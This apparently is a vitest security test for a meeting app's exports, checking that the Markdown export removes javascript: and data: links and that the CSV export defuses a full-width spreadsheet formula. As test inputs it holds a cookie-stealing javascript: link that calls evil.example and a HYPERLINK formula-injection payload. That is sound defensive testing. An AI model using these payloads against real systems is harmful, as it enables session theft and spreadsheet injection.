/**
 * Item 14: what an attendee types cannot turn the navigator's exports against them: no code-running
 * links in the Markdown, no formulas (Unicode look-alikes included) in the CSV. Against the real server.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NoteAck } from '../../server/src/contract/events';
import { registerAttendees, TestClient } from '../support/clients';
import { startTestNavigator, type TestNavigator } from '../support/navigator';

let navigator: TestNavigator;
let board: TestClient;
let writer: TestClient;

beforeAll(async () => {
  navigator = await startTestNavigator({ NAVIGATOR_ALLOW_LOOPBACK_VMS: 'true' });
  const [ada] = await registerAttendees(navigator.request.bind(navigator), navigator.joinUrl, ['＝HYPERLINK("http://evil.example")']);
  board = new TestClient(navigator.url, 'board', `navigator_navigator=${navigator.navigatorToken}`);
  writer = new TestClient(navigator.url, 'attendee', `navigator_attendee=${ada.token}`);
  await board.until('board snapshot', (c) => c.discussion);
  await writer.until('attendee snapshot', (c) => c.discussion);
});

afterAll(async () => {
  board?.close();
  writer?.close();
  await navigator?.stop();
});

describe('14. exports', () => {
  it('the Markdown export drops javascript: and data: links from notes', async () => {
    expect(await board.socket.emitWithAck('discussion:form', { by: 'count', n: 1, strategy: 'random' })).toEqual({ ok: true });
    const groupId = await writer.until('my group', (c) => c.discussion!.myGroupId);
    const ack = (await writer.socket.emitWithAck('note:create', {
      groupId,
      text: 'See [the docs](javascript:fetch(`//evil.example?c=`+document.cookie)) and ![x](data:text/html,<script>1</script>) and [ok](https://example.org)',
    })) as NoteAck;
    expect(ack.ok).toBe(true);
    const markdown = (await navigator.request('GET', '/api/export/discussion.md', { token: navigator.navigatorToken })).body as string;
    expect(markdown).toContain('[the docs](#link-removed)');
    expect(markdown).not.toMatch(/javascript:|data:text/i);
    expect(markdown).toContain('[ok](https://example.org)');
  });

  it('the CSV neutralises a full-width formula in a name', async () => {
    const csv = (await navigator.request('GET', '/api/export/progress.csv', { token: navigator.navigatorToken })).body as string;
    expect(csv).toContain(`"'＝HYPERLINK(""http://evil.example"")"`);
  });
});
